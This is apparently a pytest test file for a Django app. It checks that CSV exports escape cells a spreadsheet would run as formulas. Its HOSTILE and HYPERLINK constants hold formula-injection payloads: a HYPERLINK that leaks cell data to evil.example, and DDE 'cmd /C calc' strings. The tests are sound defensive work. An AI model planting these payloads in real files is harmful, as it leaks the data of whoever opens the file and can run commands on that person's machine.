"""Finding 2 of issue 12: CSV formula injection.

Text people write (a project's name, a username, a prompt, a display name) must never become a
live formula in a spreadsheet: every CSV export goes through config.csv_writer, which writes a
cell starting with `=`, `+`, `-`, `@`, tab or carriage return with a leading apostrophe, and
keeps plain negative numbers as numbers.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.models import Profile
from config.csv_writer import csv_bytes, csv_lines, csv_response, safe_cell
from tests.factories import make_image, make_project
from tests.spend.test_views import spend_run

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B3,"x")'

# One cell per leading character a spreadsheet may run, as a person could type it.
HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/","x")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# --- the writer ----------------------------------------------------------------------------------


@pytest.mark.parametrize("start", list(HOSTILE))
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_apostrophe(start: str) -> None:
    value = HOSTILE[start]
    assert safe_cell(value) == "'" + value
    # Through the csv module and back: the apostrophe is the first character of the cell.
    [[cell, plain]] = read("".join(csv_lines([[value, "plain"]])))
    assert cell == "'" + value
    assert plain == "plain"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (Decimal("-0.028000"), "-0.028000"),
        ("-0.028000", "-0.028000"),
        (-3, "-3"),
        ("-12", "-12"),
        (Decimal("0.056"), "0.056"),
        (7, "7"),
    ],
)
def test_a_plain_negative_number_stays_a_number(value: object, written: str) -> None:
    assert safe_cell(value) == written


@pytest.mark.parametrize(
    "value",
    ["-", "-1+1", "-1 ", "-1e5", "-1.", "-.5", "-1.5.2", "-١٢", "-1\n=2", "-0x1F"],
)
def test_text_that_only_starts_like_a_number_is_made_inert(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["a red kite", "Harbour, Ltd", 'say "hi"', "x=1", "", "ü"])
def test_ordinary_text_is_written_as_it_is(value: str) -> None:
    assert safe_cell(value) == value
    assert read("".join(csv_lines([[value]]))) == [[value]]


def test_an_empty_value_is_an_empty_cell() -> None:
    assert safe_cell(None) == ""


def test_a_whole_file_has_a_byte_order_mark_and_crlf_records() -> None:
    data = csv_bytes([["a", "b"], ["=1", "-1"]])
    assert data == "\ufeffa,b\r\n'=1,-1\r\n".encode()


def test_a_download_is_streamed_with_its_name() -> None:
    response = csv_response("x.csv", [["@A1"]])
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert b"".join(response.streaming_content) == b"'@A1\r\n"


# --- the cost review's exports -------------------------------------------------------------------


def review_csv(client, table: str) -> list[list[str]]:
    today = timezone.localdate()
    response = client.get(
        reverse("spend:review"),
        {
            "start": today.replace(day=1).isoformat(),
            "end": today.isoformat(),
            "format": "csv",
            "table": table,
        },
    )
    assert response.status_code == 200
    return read(b"".join(response.streaming_content).decode())


@pytest.mark.django_db
def test_a_project_named_as_a_formula_is_inert_in_the_review_exports(
    client, staff, django_user_model
) -> None:
    # A username may hold + - @ . _: "-2+3" is a valid one.
    person = django_user_model.objects.create_user("-2+3", password="pw-x-123456")
    project = make_project(person, HYPERLINK)
    spend_run(person, project=project, charge="0.028")
    spend_run(person, project=project, charge=None, released=True, status="failed")
    client.force_login(staff)

    projects = review_csv(client, "projects")
    assert projects[0] == ["project", "spend_usd"]
    assert ["'" + HYPERLINK, "0.0280"] in projects

    runs = review_csv(client, "runs")
    header, *rows = runs
    assert rows
    for row in rows:
        record = dict(zip(header, row, strict=True))
        assert record["project"] == "'" + HYPERLINK
        assert record["person"] == "'-2+3"

    failed = review_csv(client, "failed")
    assert dict(zip(failed[0], failed[1], strict=True))["project"] == "'" + HYPERLINK

    people = review_csv(client, "people")
    assert ["'-2+3", "0.0280"] in people


# --- the ZIP's metadata.csv ----------------------------------------------------------------------


@pytest.mark.django_db
def test_every_text_column_of_the_zip_metadata_is_inert(client, user) -> None:
    Profile.objects.create(user=user, display_name=HOSTILE["@"])
    project = make_project(user, HYPERLINK)
    images = []
    for start, prompt in HOSTILE.items():
        image = make_image(user, project=project, prompt=prompt)
        image.generation.prompt_original = HOSTILE["+"] if start == "=" else ""
        image.generation.save(update_fields=["prompt_original"])
        images.append(image)
    client.force_login(user)

    response = client.post(reverse("gallery:bulk_zip"), {"images": [str(i.uuid) for i in images]})

    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    table = list(
        csv.DictReader(io.StringIO(archive.read("metadata.csv").decode("utf-8-sig"), newline=""))
    )
    by_uuid = {row["uuid"]: row for row in table}
    for image, prompt in zip(images, HOSTILE.values(), strict=True):
        row = by_uuid[str(image.uuid)]
        assert row["prompt"] == "'" + prompt
        assert row["project"] == "'" + HYPERLINK
        assert row["author"] == "'" + HOSTILE["@"]
        # The payload is JSON (it starts with "{"), so the prompt inside it is not a cell start.
        assert json.loads(row["request_payload"]) == {"prompt": prompt}
    assert by_uuid[str(images[0].uuid)]["prompt_original"] == "'" + HOSTILE["+"]
    # metadata.json is data, not a spreadsheet: it keeps every text exactly.
    exact = json.loads(archive.read("metadata.json"))["images"]
    assert [row["prompt"] for row in exact] == list(HOSTILE.values())
    assert {row["project"] for row in exact} == {HYPERLINK}
